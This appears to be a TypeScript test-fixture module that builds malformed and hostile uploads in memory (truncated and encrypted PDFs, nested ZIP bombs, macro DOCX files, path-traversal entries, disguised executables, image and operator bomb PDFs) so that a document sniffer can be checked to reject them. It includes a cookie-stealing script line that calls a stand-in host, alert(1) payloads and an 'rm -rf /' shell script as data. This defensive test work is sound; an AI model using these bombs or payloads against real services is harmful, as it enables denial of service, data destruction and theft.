/**
 * Malformed and hostile uploads, generated in memory (no binary fixtures in the repository), for the
 * document sniffing and extraction tests: damaged and encrypted PDFs, absurd page trees, markup and
 * executables under document names, ZIP bombs with honest and lying headers, macro documents, path
 * traversal, and text that is not text. Also a few legitimate edge files that must be accepted, and the
 * small PDF and ZIP writers they are built with.
 *
 * @example
 * for (const f of await hostileFiles()) await expect(sniffDocument(f.bytes)).rejects.toBeInstanceOf(DocumentRejected);
 */
import { crc32, deflateRawSync, deflateSync } from 'node:zlib';

/** One generated file. */
export interface GeneratedFile {
  /** A file name as a user might upload it (the type is decided by content, never by this). */
  name: string;
  bytes: Buffer;
  /** What it tries. */
  why: string;
  /** The key of `EXTRACT_MESSAGES` expected, when one specific answer is expected. */
  expect?: string;
  /** True when `sniffDocument` may accept it and `extractPages` must reject it. */
  atExtraction?: boolean;
}

// ---------------------------------------------------------------------------------------------------
// PDF writer

/**
 * Writes a PDF from object bodies (object `n` is `objects[n - 1]`, object 1 must be the catalog) with a
 * correct cross-reference table, unless `xref` is `'broken'` (offsets off by 7) or `'missing'`.
 */
export function pdfFromObjects(
  objects: readonly (string | Buffer)[],
  opts: { trailer?: string; xref?: 'ok' | 'broken' | 'missing'; version?: string } = {},
): Buffer {
  const parts: Buffer[] = [Buffer.from(`%PDF-${opts.version ?? '1.4'}\n%\xe2\xe3\xcf\xd3\n`, 'latin1')];
  let offset = parts[0]?.length ?? 0;
  const offsets: number[] = [];
  objects.forEach((body, i) => {
    offsets.push(offset);
    const chunk = Buffer.concat([
      Buffer.from(`${i + 1} 0 obj\n`, 'latin1'),
      typeof body === 'string' ? Buffer.from(body, 'latin1') : body,
      Buffer.from('\nendobj\n', 'latin1'),
    ]);
    parts.push(chunk);
    offset += chunk.length;
  });
  const xrefAt = offset;
  const shift = opts.xref === 'broken' ? 7 : 0;
  const xref =
    opts.xref === 'missing'
      ? ''
      : `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${offsets
          .map((o) => `${String(o + shift).padStart(10, '0')} 00000 n \n`)
          .join('')}`;
  parts.push(
    Buffer.from(
      `${xref}trailer\n<< /Size ${objects.length + 1} /Root 1 0 R ${opts.trailer ?? ''}>>\nstartxref\n${xrefAt}\n%%EOF\n`,
      'latin1',
    ),
  );
  return Buffer.concat(parts);
}

/** A stream object body (Flate-compressed unless `raw`). */
export function pdfStream(data: Buffer | string, dict = '', raw = false): Buffer {
  const bytes = typeof data === 'string' ? Buffer.from(data, 'latin1') : data;
  const body = raw ? bytes : deflateSync(bytes);
  return Buffer.concat([
    Buffer.from(
      `<< /Length ${body.length} ${raw ? '' : '/Filter /FlateDecode '}${dict}>>\nstream\n`,
      'latin1',
    ),
    body,
    Buffer.from('\nendstream', 'latin1'),
  ]);
}

const escapePdfText = (s: string) => s.replace(/[\\()]/g, (c) => `\\${c}`);

/** The texts of an expediente of `pages` pages, one distinct line each ('Página 3 del expediente…'). */
export function expedientePages(pages: number): string[] {
  return Array.from(
    { length: pages },
    (_, i) => `Página ${i + 1} del expediente: cláusula ${i + 1} sobre arras y penalizaciones`,
  );
}

/**
 * A PDF with one page per text (Helvetica 12 pt, WinAnsi: Latin-1 text), all pages sharing the font.
 * With `pages` > texts.length the last text repeats.
 */
export function textPdf(
  texts: readonly string[],
  pages = texts.length,
  extra: { trailer?: string } = {},
): Buffer {
  const objects: (string | Buffer)[] = [
    '<< /Type /Catalog /Pages 2 0 R >>',
    '', // pages, filled below
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>',
  ];
  const contents = texts.map((t) => {
    const lines = t.split('\n');
    const ops = lines
      .map((l, i) => `BT /F1 12 Tf 72 ${760 - i * 16} Td (${escapePdfText(l)}) Tj ET`)
      .join('\n');
    objects.push(pdfStream(Buffer.from(ops, 'latin1')));
    return objects.length;
  });
  const kids: number[] = [];
  for (let p = 0; p < pages; p++) {
    const content = contents[Math.min(p, contents.length - 1)] ?? 4;
    objects.push(
      `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 3 0 R >> >> /Contents ${content} 0 R >>`,
    );
    kids.push(objects.length);
  }
  objects[1] = `<< /Type /Pages /Kids [${kids.map((k) => `${k} 0 R`).join(' ')}] /Count ${pages} >>`;
  return pdfFromObjects(objects, extra);
}

/** A one-page PDF whose only content is an RGB image (Flate) filling the page: no text layer. */
export function imagePdf(rgb: Buffer, width: number, height: number, dpi = 150): Buffer {
  const w = (width * 72) / dpi;
  const h = (height * 72) / dpi;
  return pdfFromObjects([
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 ${w.toFixed(2)} ${h.toFixed(2)}] /Resources << /XObject << /Im1 4 0 R >> >> /Contents 5 0 R >>`,
    pdfStream(
      rgb,
      `/Type /XObject /Subtype /Image /Width ${width} /Height ${height} /ColorSpace /DeviceRGB /BitsPerComponent 8 `,
    ),
    pdfStream(`q ${w.toFixed(2)} 0 0 ${h.toFixed(2)} 0 0 cm /Im1 Do Q`),
  ]);
}

/** Reads a binary PPM (P6, 8-bit), as `pdftoppm` writes without `-png`. */
export function parsePpm(ppm: Buffer): { width: number; height: number; rgb: Buffer } {
  const header = /^P6\s+(\d+)\s+(\d+)\s+(\d+)\s/.exec(ppm.subarray(0, 64).toString('latin1'));
  if (!header) throw new Error('not a P6 PPM');
  const [whole, w, h] = header;
  return { width: Number(w), height: Number(h), rgb: ppm.subarray(whole.length) };
}

// ---------------------------------------------------------------------------------------------------
// ZIP writer

/** One ZIP entry; sizes and flags may lie. */
export interface ZipEntrySpec {
  name: string;
  /** Uncompressed content (deflated unless `method` is 0). */
  data?: Buffer | string;
  /** Already-compressed bytes to store as they are (with `uncompressedSize`). */
  raw?: Buffer;
  /** @default 8 (deflate) */
  method?: number;
  /** Declared uncompressed size (defaults to the truth). */
  uncompressedSize?: number;
  /** General-purpose flags (bit 0 = encrypted). */
  flags?: number;
}

/** Writes a ZIP (local headers, data, central directory, end record) exactly as specified. */
export function zipFile(entries: readonly ZipEntrySpec[]): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const e of entries) {
    const name = Buffer.from(e.name, 'utf8');
    const method = e.method ?? 8;
    const plain = e.data === undefined ? undefined : Buffer.from(e.data);
    const body = e.raw ?? (plain ? (method === 8 ? deflateRawSync(plain) : plain) : Buffer.alloc(0));
    const size = e.uncompressedSize ?? plain?.length ?? body.length;
    const crc = plain ? crc32(plain) : 0;
    const flags = (e.flags ?? 0) | 0x800;
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(flags, 6);
    local.writeUInt16LE(method, 8);
    local.writeUInt32LE(crc, 14);
    local.writeUInt32LE(body.length, 18);
    local.writeUInt32LE(size >>> 0, 22);
    local.writeUInt16LE(name.length, 26);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 4);
    central.writeUInt16LE(20, 6);
    central.writeUInt16LE(flags, 8);
    central.writeUInt16LE(method, 10);
    central.writeUInt32LE(crc, 16);
    central.writeUInt32LE(body.length, 20);
    central.writeUInt32LE(size >>> 0, 24);
    central.writeUInt16LE(name.length, 28);
    central.writeUInt32LE(offset, 42);
    locals.push(local, name, body);
    centrals.push(central, name);
    offset += local.length + name.length + body.length;
  }
  const cd = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(Math.min(entries.length, 0xffff), 8);
  end.writeUInt16LE(Math.min(entries.length, 0xffff), 10);
  end.writeUInt32LE(cd.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, cd, end]);
}

const CONTENT_TYPES = (
  main = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml',
) =>
  `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="${main}"/></Types>`;
const RELS = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>`;

/** `word/document.xml` with one paragraph per text (`Heading1` style for texts starting with `# `). */
export function documentXml(paragraphs: readonly string[]): string {
  const esc = (s: string) => s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;');
  const body = paragraphs
    .map((p) =>
      p.startsWith('# ')
        ? `<w:p><w:pPr><w:pStyle w:val="Heading1"/></w:pPr><w:r><w:t>${esc(p.slice(2))}</w:t></w:r></w:p>`
        : `<w:p><w:r><w:t xml:space="preserve">${esc(p)}</w:t></w:r></w:p>`,
    )
    .join('');
  return `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>${body}</w:body></w:document>`;
}

/** A minimal valid DOCX plus any extra (possibly hostile) entries. */
export function docxFile(
  paragraphs: readonly string[],
  extra: readonly ZipEntrySpec[] = [],
  contentType?: string,
): Buffer {
  return zipFile([
    { name: '[Content_Types].xml', data: CONTENT_TYPES(contentType) },
    { name: '_rels/.rels', data: RELS },
    { name: 'word/document.xml', data: documentXml(paragraphs) },
    ...extra,
  ]);
}

// ---------------------------------------------------------------------------------------------------
// The files

/** A deterministic byte stream (xorshift32) for noise. */
function noise(length: number, seed = 0x2545f491): Buffer {
  const out = Buffer.alloc(length);
  let x = seed >>> 0;
  for (let i = 0; i < length; i++) {
    x ^= x << 13;
    x >>>= 0;
    x ^= x >>> 17;
    x ^= x << 5;
    x >>>= 0;
    out[i] = x & 0xff;
  }
  return out;
}

const MB = 1024 * 1024;
const SAMPLE = 'Sentencia del Tribunal Supremo.\nFUNDAMENTOS DE DERECHO\nPRIMERO.- El recurso se desestima.';

/** The ZIP bombs alone (for the memory assertion). */
export function zipBombs(): GeneratedFile[] {
  const zeros10 = deflateRawSync(Buffer.alloc(10 * MB));
  const zeros2 = deflateRawSync(Buffer.alloc(2 * MB));
  const inner = zipFile([{ name: '0.bin', raw: zeros10, uncompressedSize: 1024 * MB - 1 }]);
  let nested = inner;
  for (let depth = 0; depth < 3; depth++) {
    nested = zipFile(Array.from({ length: 16 }, (_, i) => ({ name: `${depth}-${i}.zip`, data: nested })));
  }
  return [
    {
      name: 'zeros-1gb.docx',
      why: 'one entry declaring 1 GB of zeros (10 MB really deflated): refused on the central directory',
      bytes: docxFile(
        ['x'],
        [{ name: 'word/media/zeros.bin', raw: zeros10, uncompressedSize: 1024 * MB - 1 }],
      ),
      expect: 'docxCompression',
    },
    {
      name: 'lying-small.docx',
      why: 'an entry that declares 1,000 bytes but inflates to 10 MB: stopped while inflating',
      bytes: docxFile(['x'], [{ name: 'word/media/lie.bin', raw: zeros10, uncompressedSize: 1000 }]),
      expect: 'docxInvalid',
    },
    {
      name: 'lying-document.docx',
      why: 'word/document.xml itself declares 2 KB and inflates to 10 MB',
      bytes: zipFile([
        { name: '[Content_Types].xml', data: CONTENT_TYPES() },
        { name: 'word/document.xml', raw: zeros10, uncompressedSize: 2048 },
      ]),
      expect: 'docxInvalid',
    },
    {
      name: 'high-ratio.docx',
      why: 'an honest 2 MB entry of zeros (ratio ~1000 above the 1 MB floor)',
      bytes: docxFile(['x'], [{ name: 'word/media/ratio.bin', raw: zeros2, uncompressedSize: 2 * MB }]),
      expect: 'docxCompression',
    },
    {
      name: 'many-medium.docx',
      why: '60 entries of 900 KB (each under the ratio floor) adding up past 50 MB',
      bytes: docxFile(
        ['x'],
        Array.from({ length: 60 }, (_, i) => ({
          name: `word/media/m${i}.bin`,
          raw: deflateRawSync(Buffer.alloc(900 * 1024)),
          uncompressedSize: 900 * 1024,
        })),
      ),
      expect: 'docxTooLarge',
    },
    {
      name: 'many-lying.docx',
      why: '60 entries declaring 100 KB that inflate to 900 KB each (a lying total)',
      bytes: docxFile(
        ['x'],
        Array.from({ length: 60 }, (_, i) => ({
          name: `word/media/l${i}.bin`,
          raw: deflateRawSync(Buffer.alloc(900 * 1024)),
          uncompressedSize: 100 * 1024,
        })),
      ),
      expect: 'docxInvalid',
    },
    {
      name: '42.docx',
      why: '42.zip-style nested archives (16 × 16 × 16 × a 1 GB entry), no word/document.xml',
      bytes: nested,
      expect: 'unsupported',
    },
    {
      name: 'nested-bomb-in-docx.docx',
      why: 'a DOCX whose document.xml is fine but which carries a lying 1 GB entry',
      bytes: docxFile(
        ['x'],
        [{ name: 'word/embeddings/inner.bin', raw: zeros10, uncompressedSize: 0xffffffff }],
      ),
      expect: 'docxCompression',
    },
    {
      name: 'zero-compressed.docx',
      why: 'an entry declaring 0 compressed bytes and 2 MB uncompressed',
      bytes: docxFile(['x'], [{ name: 'word/x.bin', raw: Buffer.alloc(0), uncompressedSize: 2 * MB }]),
      expect: 'docxCompression',
    },
  ];
}

/**
 * At least 55 malformed or hostile files, each of which `sniffDocument` (or, where `atExtraction`,
 * `extractPages`) must refuse with a `DocumentRejected` carrying a Spanish message and 415/422.
 */
export async function hostileFiles(): Promise<GeneratedFile[]> {
  const files: GeneratedFile[] = [];
  const add = (name: string, bytes: Buffer, why: string, expect?: string) =>
    files.push(expect ? { name, bytes, why, expect } : { name, bytes, why });

  // --- PDF
  const good = textPdf([SAMPLE, 'Segunda página', 'Tercera página']);
  for (const at of [5, 9, 64, Math.floor(good.length / 2), good.length - 40, good.length - 3]) {
    add(`truncated-${at}.pdf`, good.subarray(0, at), `a PDF cut at byte ${at} of ${good.length}`);
  }
  add(
    'no-xref-no-objects.pdf',
    Buffer.from(
      '%PDF-1.7\nxref\n0 3\n0000000000 65535 f \n0000009999 00000 n \ntrailer\n<< /Root 1 0 R >>\nstartxref\n9\n%%EOF\n',
    ),
    'a cross-reference table pointing nowhere and no objects to recover',
  );
  add(
    'broken-xref-broken-objects.pdf',
    Buffer.from(
      pdfFromObjects(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [9 0 R] /Count 1 >>'], {
        xref: 'broken',
      }),
    ),
    'a wrong xref and a page tree whose only kid does not exist',
  );
  add(
    'encrypted.pdf',
    encryptedPdf(),
    'a user password (standard security handler, RC4 40-bit)',
    'pdfEncrypted',
  );
  add('encrypted-aes.pdf', encryptedPdf(4), 'a user password (AES-128, V4 R4)', 'pdfEncrypted');
  add(
    'huge-count.pdf',
    pdfFromObjects([
      '<< /Type /Catalog /Pages 2 0 R >>',
      '<< /Type /Pages /Kids [3 0 R] /Count 1000000000 >>',
      '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>',
    ]),
    'a page tree claiming a billion pages',
    'pdfTooManyPages',
  );
  add('2001-pages.pdf', textPdf(['p'], 2001), '2,001 real (tiny) pages', 'pdfTooManyPages');
  add(
    'zero-pages.pdf',
    pdfFromObjects(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [] /Count 0 >>']),
    'an empty page tree',
  );
  add(
    'page-tree-loop.pdf',
    pdfFromObjects(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [2 0 R] /Count 1 >>']),
    'a page tree whose kid is itself',
  );
  add(
    'pdf-garbage.pdf',
    Buffer.concat([Buffer.from('%PDF-1.7\n'), noise(4096, 7), Buffer.from('\n%%EOF\n')]),
    '`%PDF-` then noise',
  );
  add('pdf-header-only.pdf', Buffer.from('%PDF-1.4\n%%EOF\n'), 'a header and an end marker, nothing else');
  add(
    'html.pdf',
    Buffer.from('<!DOCTYPE html><html><body><h1>Sentencia</h1><script>alert(1)</script></body></html>'),
    'HTML under a .pdf name',
    'unsupported',
  );
  add(
    'script.pdf',
    Buffer.from('<script>fetch("https://example.invalid/"+document.cookie)</script>'),
    'a script tag under a .pdf name',
    'unsupported',
  );
  add(
    'image.svg.pdf',
    Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><text>hola</text></svg>'),
    'SVG with a script handler',
    'unsupported',
  );
  add(
    'xml.txt',
    Buffer.from('<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "a">]><x>&a;</x>'),
    'XML with a DTD',
    'unsupported',
  );
  add(
    'comment.html.txt',
    Buffer.from('  \n<!-- x --><p>hola</p>'),
    'HTML starting with a comment',
    'unsupported',
  );
  add(
    'polyglot.pdf',
    Buffer.concat([Buffer.from('%PDF-1.7\n'), docxFile(['x'])]),
    'a PDF header followed by a DOCX (ZIP)',
  );
  add(
    'polyglot-eof.pdf',
    Buffer.concat([Buffer.from('%PDF-1.7\n'), docxFile(['x']), Buffer.from('\n%%EOF\n')]),
    'a PDF header, a ZIP and an end marker',
  );
  add(
    'zip-then-pdf.docx',
    Buffer.concat([zipFile([{ name: 'a.txt', data: 'x' }]), good]),
    'a ZIP with a PDF appended',
    'docxInvalid',
  );
  add(
    'ps.pdf',
    Buffer.from('%!PS-Adobe-3.0\n/Helvetica findfont 12 scalefont setfont\nshowpage\n'),
    'PostScript',
    'unsupported',
  );

  // --- ZIP / DOCX
  files.push(...zipBombs());
  add(
    'macro.docx',
    docxFile(['x'], [{ name: 'word/vbaProject.bin', data: noise(2048, 3) }]),
    'a DOCX carrying word/vbaProject.bin',
    'docxMacros',
  );
  add(
    'macro-content-type.docx',
    docxFile(['x'], [], 'application/vnd.ms-word.document.macroEnabled.main+xml'),
    'a macro-enabled main content type (.docm renamed)',
    'docxMacros',
  );
  add(
    'vbadata.docx',
    docxFile(['x'], [{ name: 'word/vbaData.xml', data: '<x/>' }]),
    'word/vbaData.xml',
    'docxMacros',
  );
  add(
    'activex.docx',
    docxFile(['x'], [{ name: 'word/activeX/activeX1.bin', data: noise(512, 5) }]),
    'an ActiveX control binary',
    'docxMacros',
  );
  add(
    'no-document.docx',
    zipFile([{ name: 'hello.txt', data: 'hola' }]),
    'a ZIP without word/document.xml',
    'unsupported',
  );
  add('empty-zip.docx', zipFile([]), 'an empty ZIP (end record only)', 'unsupported');
  add(
    'xlsx.docx',
    zipFile([{ name: 'xl/workbook.xml', data: '<workbook/>' }]),
    'a spreadsheet (xl/…)',
    'unsupported',
  );
  add(
    'traversal.docx',
    docxFile(['x'], [{ name: '../../etc/passwd', data: 'root' }]),
    'an entry named ../../etc/passwd',
    'docxUnsafePaths',
  );
  add(
    'absolute.docx',
    docxFile(['x'], [{ name: '/etc/cron.d/x', data: 'x' }]),
    'an absolute entry name',
    'docxUnsafePaths',
  );
  add(
    'drive.docx',
    docxFile(['x'], [{ name: 'C:\\Windows\\x.dll', data: 'x' }]),
    'a Windows drive path',
    'docxUnsafePaths',
  );
  add(
    'backslash-traversal.docx',
    docxFile(['x'], [{ name: 'word\\..\\..\\x', data: 'x' }]),
    'traversal with backslashes',
    'docxUnsafePaths',
  );
  add(
    'many-entries.docx',
    docxFile(
      ['x'],
      Array.from({ length: 5000 }, (_, i) => ({ name: `word/e${i}.xml`, data: '' })),
    ),
    '5,000 entries',
    'docxTooManyEntries',
  );
  add(
    'encrypted-entry.docx',
    docxFile(['x'], [{ name: 'word/secret.xml', data: 'x', flags: 1 }]),
    'an entry with the encryption flag',
    'docxEncrypted',
  );
  add(
    'aes-entry.docx',
    docxFile(['x'], [{ name: 'word/aes.xml', data: 'x', method: 99 }]),
    'an entry with the WinZip AES method (99)',
    'docxEncrypted',
  );
  add(
    'bzip2-entry.docx',
    docxFile(['x'], [{ name: 'word/b.xml', raw: noise(64), method: 12 }]),
    'an unsupported method',
    'docxInvalid',
  );
  add(
    'corrupt-deflate.docx',
    docxFile(['x'], [{ name: 'word/bad.xml', raw: noise(256, 11), uncompressedSize: 300 }]),
    'an entry whose deflate data is noise',
    'docxInvalid',
  );
  const truncatedDocx = docxFile([SAMPLE]);
  add(
    'truncated.docx',
    truncatedDocx.subarray(0, truncatedDocx.length - 30),
    'a DOCX cut before its end record',
    'docxInvalid',
  );
  add(
    'ole-encrypted.docx',
    Buffer.concat([Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), noise(4096, 13)]),
    'an OLE2 container (what a password-protected DOCX really is)',
    'unsupported',
  );

  // --- other binary formats under document names
  add(
    'word97.doc',
    Buffer.concat([Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), Buffer.alloc(1024)]),
    'OLE2 .doc',
    'unsupported',
  );
  add(
    'rtf.docx',
    Buffer.from('{\\rtf1\\ansi\\deff0 {\\fonttbl {\\f0 Times;}} Hola\\par }'),
    'RTF',
    'unsupported',
  );
  add('rtf.txt', Buffer.from('{\\rtf1\\ansi Hola}'), 'RTF under .txt', 'unsupported');
  const mz = Buffer.concat([
    Buffer.from('MZ\x90\x00\x03', 'latin1'),
    Buffer.alloc(58),
    Buffer.from('PE\0\0', 'latin1'),
    noise(512),
  ]);
  add('setup.pdf', mz, 'a Windows executable (MZ) as .pdf', 'unsupported');
  add('setup.docx', mz, 'a Windows executable (MZ) as .docx', 'unsupported');
  add(
    'setup.txt',
    Buffer.concat([Buffer.from('MZThis program cannot be run in DOS mode.'), Buffer.from('\r\n$')]),
    'an MZ stub without NUL',
    'unsupported',
  );
  const elf = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), noise(512, 17)]);
  add('elf.pdf', elf, 'an ELF executable as .pdf', 'unsupported');
  add('elf.txt', elf, 'an ELF executable as .txt', 'unsupported');
  add('elf.docx', elf, 'an ELF executable as .docx', 'unsupported');
  add('shell.txt', Buffer.from('#!/bin/sh\nrm -rf /\n'), 'a shell script', 'unsupported');
  add(
    'image.pdf',
    Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), noise(256, 19)]),
    'a PNG as .pdf',
    'unsupported',
  );
  add(
    'photo.docx',
    Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), noise(256, 23)]),
    'a JPEG as .docx',
    'unsupported',
  );
  add(
    'anim.txt',
    Buffer.from('GIF89a\x01\x00\x01\x00\x80\x01\x00\xff\xff\xff;', 'latin1'),
    'a GIF as .txt',
    'unsupported',
  );
  add(
    'archive.txt',
    Buffer.concat([Buffer.from([0x1f, 0x8b, 8, 0]), noise(128, 29)]),
    'gzip as .txt',
    'unsupported',
  );

  // --- not text
  add('empty.txt', Buffer.alloc(0), 'an empty file', 'empty');
  add('nul.txt', Buffer.from([0]), 'a single NUL byte', 'unsupported');
  add('sub.txt', Buffer.from([0x1a]), 'a single control byte', 'unsupported');
  add('whitespace.txt', Buffer.from(' \n\t\r\n  '), 'only whitespace', 'empty');
  add('nul-laden.txt', Buffer.from('Hola\0mundo\0'.repeat(50)), 'text with NUL bytes', 'unsupported');
  add(
    'utf16le.txt',
    Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('Sentencia del año', 'utf16le')]),
    'UTF-16 LE with BOM',
    'unsupported',
  );
  add(
    'utf16-nobom.txt',
    Buffer.from('Sentencia del año', 'utf16le'),
    'UTF-16 without BOM (NULs)',
    'unsupported',
  );
  add(
    'utf16be.txt',
    Buffer.concat([Buffer.from([0xfe, 0xff]), Buffer.from('Hola', 'utf16le').swap16()]),
    'UTF-16 BE',
    'unsupported',
  );
  add('noise.txt', noise(64 * 1024, 31), 'binary noise', 'unsupported');
  const noNul = Buffer.from(noise(8192, 37).map((b) => (b === 0 ? 1 : b)));
  add('noise-no-nul.txt', noNul, 'binary noise without NUL bytes', 'unsupported');
  add(
    'escapes.txt',
    Buffer.from(`${'\x1b[31m\x07\x08'.repeat(40)}texto`, 'latin1'),
    'terminal escapes and bells (> 5 % control characters)',
    'unsupported',
  );
  return files;
}

/** A PDF encrypted with a non-empty user password (the keys are not real: pdf.js asks for a password). */
function encryptedPdf(v: 1 | 4 = 1): Buffer {
  const o = `<${'4f'.repeat(32)}>`;
  const u = `<${'55'.repeat(32)}>`;
  const encrypt =
    v === 1
      ? `<< /Filter /Standard /V 1 /R 2 /O ${o} /U ${u} /P -44 >>`
      : `<< /Filter /Standard /V 4 /R 4 /Length 128 /CF << /StdCF << /AuthEvent /DocOpen /CFM /AESV2 /Length 16 >> >> /StmF /StdCF /StrF /StdCF /O ${o} /U ${u} /P -44 >>`;
  return pdfFromObjects(
    [
      '<< /Type /Catalog /Pages 2 0 R >>',
      '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
      '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>',
      pdfStream(noise(64, 41), '', true),
      encrypt,
    ],
    { trailer: `/Encrypt 5 0 R /ID [<${'ab'.repeat(16)}> <${'ab'.repeat(16)}>]` },
  );
}

/** Legitimate edge files that must be accepted, with the kind expected. */
export function acceptableEdgeFiles(): Array<
  GeneratedFile & { kind: 'pdf' | 'docx' | 'txt'; contains: string }
> {
  return [
    {
      name: 'cp1252.txt',
      bytes: Buffer.from('Sentencia del año 2024: cláusula de indemnización, señor Muñoz.\r\n', 'latin1'),
      why: 'Windows-1252 text (not valid UTF-8)',
      kind: 'txt',
      contains: 'año',
    },
    {
      name: 'cp1252-quotes.txt',
      bytes: Buffer.from([...Buffer.from('Dijo '), 0x93, ...Buffer.from('hola'), 0x94, 0x20, 0x80, 0x0a]),
      why: 'Windows-1252 curly quotes and the euro sign (0x80–0x9F are printable there)',
      kind: 'txt',
      contains: '“hola” €',
    },
    {
      name: 'bom.txt',
      bytes: Buffer.concat([
        Buffer.from([0xef, 0xbb, 0xbf]),
        Buffer.from('Fundamentos de derecho: el año.', 'utf8'),
      ]),
      why: 'UTF-8 with a byte-order mark',
      kind: 'txt',
      contains: 'Fundamentos de derecho',
    },
    {
      name: 'pages.txt',
      bytes: Buffer.from('Primera página\n\fSegunda página\n\f', 'utf8'),
      why: 'form feeds separating pages',
      kind: 'txt',
      contains: 'Segunda página',
    },
    {
      name: 'tiny.pdf',
      bytes: textPdf(['Hola, mundo: sentencia de prueba.']),
      why: 'the smallest valid PDF with text',
      kind: 'pdf',
      contains: 'sentencia de prueba',
    },
    {
      name: 'recoverable-xref.pdf',
      bytes: pdfFromObjects(
        [
          '<< /Type /Catalog /Pages 2 0 R >>',
          '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
          '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 4 0 R >> >> /Contents 5 0 R >>',
          '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
          pdfStream('BT /F1 12 Tf 72 720 Td (Texto recuperable.) Tj ET'),
        ],
        { xref: 'broken' },
      ),
      why: 'wrong xref offsets but intact objects: pdf.js rebuilds the table, the text is readable',
      kind: 'pdf',
      contains: 'Texto recuperable',
    },
    {
      name: 'trailing-garbage.pdf',
      bytes: Buffer.concat([textPdf(['Con basura al final.']), Buffer.from('\r\n\0\0')]),
      why: 'bytes after %%EOF (common in real PDFs)',
      kind: 'pdf',
      contains: 'basura al final',
    },
    {
      name: 'minimal.docx',
      bytes: docxFile(['# CLÁUSULA PRIMERA', 'El arrendador cede el uso de la vivienda.']),
      why: 'a hand-made minimal DOCX with a heading',
      kind: 'docx',
      contains: 'El arrendador cede',
    },
    {
      name: 'spaces.docx',
      bytes: docxFile(['x'], [{ name: 'word/media/blank.bin', data: Buffer.alloc(900 * 1024, 0x20) }]),
      why: 'a highly compressible entry under the 1 MB ratio floor',
      kind: 'docx',
      contains: 'x',
    },
  ];
}

/**
 * Availability attacks (issue 11): files small on the wire that cost a server a lot to read. The image
 * bomb is `pages` pages, each showing the same `side` × `side` RGB image (Flate-compressed zeros: a few
 * hundred KB for 8000 × 8000) and no text, so an unbounded reader decodes and OCRs 64 M pixels a page.
 */
export function imageBombPdf(pages = 20, side = 8000): Buffer {
  const image = pdfStream(
    Buffer.alloc(side * side * 3),
    `/Type /XObject /Subtype /Image /Width ${side} /Height ${side} /ColorSpace /DeviceRGB /BitsPerComponent 8 `,
  );
  const content = pdfStream('q 595 0 0 842 0 0 cm /Im1 Do Q');
  const objects: (string | Buffer)[] = ['<< /Type /Catalog /Pages 2 0 R >>', '', image, content];
  const kids: number[] = [];
  for (let p = 0; p < pages; p++) {
    objects.push(
      '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /XObject << /Im1 3 0 R >> >> /Contents 4 0 R >>',
    );
    kids.push(objects.length);
  }
  objects[1] = `<< /Type /Pages /Kids [${kids.map((k) => `${k} 0 R`).join(' ')}] /Count ${pages} >>`;
  return pdfFromObjects(objects);
}

/** One page whose content stream inflates to `ops` tiny text-showing operations (millions of text items). */
export function operatorBombPdf(ops = 1_000_000): Buffer {
  const content = pdfStream(Buffer.from('BT /F1 1 Tf 1 0 0 1 10 10 Tm (a) Tj ET\n'.repeat(ops), 'latin1'));
  return pdfFromObjects([
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 4 0 R >> >> /Contents 5 0 R >>',
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>',
    content,
  ]);
}
